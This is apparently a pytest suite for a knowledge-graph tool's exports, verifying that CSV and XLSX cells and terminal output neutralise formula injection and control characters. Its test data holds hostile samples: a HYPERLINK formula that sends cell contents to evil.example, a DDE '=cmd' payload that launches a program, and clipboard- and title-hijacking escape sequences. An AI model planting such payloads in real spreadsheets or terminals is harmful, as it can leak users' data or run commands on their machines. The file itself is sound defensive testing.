"""Untrusted graph text is harmless where it lands: no formula runs in a spreadsheet, no escape
sequence reaches a terminal.

Every CSV and XLSX the product writes (console download, `stakegraph cypher --csv`, the project
shortlist export, the chain workbook) goes through kg.cells.spreadsheet_cell, and every
terminal table through kg.cells.terminal_text; these tests feed each path the probe's cells.
Real engine, real CLI process, real Flask client, real workbooks read back with openpyxl.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kg.cells import spreadsheet_cell, terminal_text
from kg.results import result_csv, result_table
from kg.store import QueryResult

# (cell as stored in the graph, as a spreadsheet must receive it)
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("  =1+1", "'  =1+1"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
]
PLAIN = ["-1.5", "+3", "-2e5", "Acme = Co", "长电科技", "a-b", "", "1-2"]


def test_spreadsheet_cell_rule() -> None:
    for raw, safe in FORMULAS:
        assert spreadsheet_cell(raw) == safe, raw
    for text in PLAIN:
        assert spreadsheet_cell(text) == text, "plain text and plain numbers stay as they are"
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(None) is None, "numbers stay numbers in XLSX"


def test_only_kg_cells_decides_what_a_formula_is() -> None:
    """One rule for every file we write: no module keeps a formula check of its own."""
    root = Path(__file__).resolve().parents[1]
    own = []
    for folder in ("kg", "web", "matching", "ingest", "jobs", "stakegraph_cli"):
        for path in (root / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name != "cells.py" and ('"@", "\\t"' in text or "FORMULA_START" in text):
                own.append(str(path.relative_to(root)))
    assert own == []


def test_terminal_text_shows_controls_as_escapes() -> None:
    shown = terminal_text("Acme\x1b[2J\x1b]52;c;ZXZpbA==\x07\u202eLtd\x00\n")
    assert shown == "Acme\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07\\u202eLtd\\x00\\n"
    assert terminal_text("line 1\nline\x1b 2", keep_newlines=True) == "line 1\nline\\x1b 2"
    assert terminal_text("长电科技 JCET") == "长电科技 JCET"


def test_result_table_and_csv_of_hostile_cells() -> None:
    hostile = "Evil\x1b[31mRed\x1b[0m\x9b2J\u202e"
    result = QueryResult(columns=["name", "\x1b[2Jcol", "=formula"], rows=[[hostile, "=1+1", -1.5]])
    table = result_table(result)
    assert not any(ch in table for ch in "\x1b\x9b\u202e"), "no raw control character reaches the terminal"
    assert "Evil\\x1b[31mRed\\x1b[0m\\x9b2J\\u202e" in table and "\\x1b[2Jcol" in table
    rows = list(csv.reader(io.StringIO(result_csv(result))))
    assert rows == [["name", "\x1b[2Jcol", "'=formula"], [hostile, "'=1+1", "-1.5"]]


# `stakegraph cypher` in its own process, on an initialised (empty) home --------------------------
@pytest.fixture(scope="module")
def cli_home(tmp_path_factory) -> Path:
    from jobs.tasks import init_home
    from kg.settings import load_settings

    home = tmp_path_factory.mktemp("cells") / "home"
    init_home(load_settings({"home": str(home), "embedder": "lexical"}))
    return home


def _cypher(home: Path, *args: str) -> subprocess.CompletedProcess:
    """Run `stakegraph cypher`; stdout decoded without newline translation (a CR in a cell stays)."""
    env = {**os.environ, "STAKEGRAPH_HOME": str(home), "STAKEGRAPH_EMBEDDER": "lexical"}
    entry = "import sys; from stakegraph_cli.main import main; sys.exit(main(sys.argv[1:]))"
    p = subprocess.run([sys.executable, "-c", entry, "cypher", *args], capture_output=True, env=env, timeout=300)
    return subprocess.CompletedProcess(p.args, p.returncode, p.stdout.decode("utf-8"), p.stderr.decode("utf-8"))


HOSTILE_QUERY = "RETURN " + ", ".join(f"$v{i} AS c{i}" for i in range(len(FORMULAS))) + ", -1.5 AS n"


def test_cypher_csv_neutralises_formulas(cli_home) -> None:
    args = [HOSTILE_QUERY]
    for i, (raw, _) in enumerate(FORMULAS):
        args += ["--param", f"v{i}={json.dumps(raw)}"]
    p = _cypher(cli_home, *args, "--csv")
    assert p.returncode == 0, p.stderr
    header, row = list(csv.reader(io.StringIO(p.stdout)))
    assert row == [safe for _, safe in FORMULAS] + ["-1.5"]


def test_cypher_table_escapes_control_characters(cli_home) -> None:
    p = _cypher(cli_home, "RETURN $name AS name", "--param", 'name="Acme\\u001b[2J\\u001b]0;pwned\\u0007 Ltd"')
    assert p.returncode == 0, p.stderr
    assert "\x1b" not in p.stdout and "\x07" not in p.stdout
    assert "Acme\\x1b[2J\\x1b]0;pwned\\x07 Ltd" in p.stdout


# web: the console's CSV download and the project exports --------------------------------------
def test_console_csv_download_neutralises_formulas(client, auth) -> None:
    auth.login("researcher")
    params = {f"v{i}": raw for i, (raw, _) in enumerate(FORMULAS)}
    response = client.post("/console/run", json={"cypher": HOSTILE_QUERY, "params": params, "format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert row == [safe for _, safe in FORMULAS] + ["-1.5"]


def test_shortlist_export_neutralises_names_and_notes(client, auth, view) -> None:
    from web import exports

    rows = [{"section": "shortlisted", "org_id": f"o{i}", "name_zh": raw, "name_en": "Acme", "note": raw,
             "score": -0.5, "status": "shortlisted"} for i, (raw, _) in enumerate(FORMULAS)]
    parsed = list(csv.DictReader(io.StringIO(exports.to_csv(rows).decode("utf-8-sig"))))
    assert [(r["name_zh"], r["note"], r["score"]) for r in parsed] == [(s, s, "-0.5") for _, s in FORMULAS]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, "t")))["shortlist"]
    header = [c.value for c in sheet[1]]
    names = [sheet.cell(r, header.index("name_zh") + 1).value for r in range(2, sheet.max_row + 1)]
    scores = {sheet.cell(r, header.index("score") + 1).value for r in range(2, sheet.max_row + 1)}
    # XML reads a stored CR back as LF; what matters is the apostrophe in front.
    assert names == [s.replace("\r", "\n") for _, s in FORMULAS], "formulas quoted"
    assert scores == {-0.5}, "numbers stay numbers"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "no cell is stored as a formula"

    # and through the page: a staff note typed as a formula comes back quoted in both files
    project = next(n.id for batch in view.iter_nodes("Project") for n in batch)
    org = next(n.id for batch in view.iter_nodes("Organization") for n in batch)
    auth.login("staff")
    client.post(f"/projects/{project}/shortlist", data={"org_id": org, "action": "shortlisted", "note": "@SUM(A1:A9)"})
    got = list(csv.DictReader(io.StringIO(client.get(f"/projects/{project}/export.csv").data.decode("utf-8-sig"))))
    assert [r["note"] for r in got if r["org_id"] == org and r["section"] == "shortlisted"] == ["'@SUM(A1:A9)"]
    book = load_workbook(io.BytesIO(client.get(f"/projects/{project}/export.xlsx").data))["shortlist"]
    header = [c.value for c in book[1]]
    assert book.cell(2, header.index("note") + 1).value == "'@SUM(A1:A9)"


def test_chain_workbook_neutralises_formulas() -> None:
    from matching.chain.export import to_xlsx
    from matching.chain.report import Candidate, ChainReport, Dependency, LinkCoverage, LocalFirm

    evil = '=HYPERLINK("http://evil.example","x")'
    firm = LocalFirm(org_id="o1", name_zh=evil, name_en=evil, kind="listed_company", stock_code=None, sector_id="s1",
                     presence="located", via_id="r1", via_name="@SUM(1)", standing=0.5, leader=True,
                     tagged_by="curated", tag_confidence=1.0, weight=-1.5)
    cand = Candidate(org_id="o2", name_zh="+1+1", name_en="+1+1", kind=None, place_en="-1+1", place_zh="-1+1",
                     member=True, score=0.7, reasons_en=["=1+1"], reasons_zh=["=1+1"], signals={})
    dep = Dependency(local_id="o1", local_name=evil, other_id="o3", other_name="\t=1", direction="upstream",
                     other_sectors=[], other_place="@x", scope="unknown", text_en="=x", text_zh="=x")
    link = LinkCoverage(sector_id="s1", name_zh="=链", name_en="=Link", parent_id=None, root="s1", depth=0,
                        stage=0, upstream=[], downstream=[], firms=[firm], strength=0.2, gap=True,
                        dependencies=[dep], candidates=[cand])
    report = ChainReport(region_id="r1", region_zh="@区", region_en="@Region", province_id=None, province_zh=None,
                         province_en=None, threshold=0.35, version="v1", links=[link])
    book = load_workbook(io.BytesIO(to_xlsx(report, "en")))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    risky = [t for t in texts if spreadsheet_cell(t) != t]
    assert risky == [], "every text cell that could run as a formula is quoted"
    assert f"'{evil}" in texts and "'+1+1" in texts and "'=1+1" in texts
    assert -1.5 in [c.value for row in book["Local firms"].iter_rows() for c in row], "numbers stay numbers"
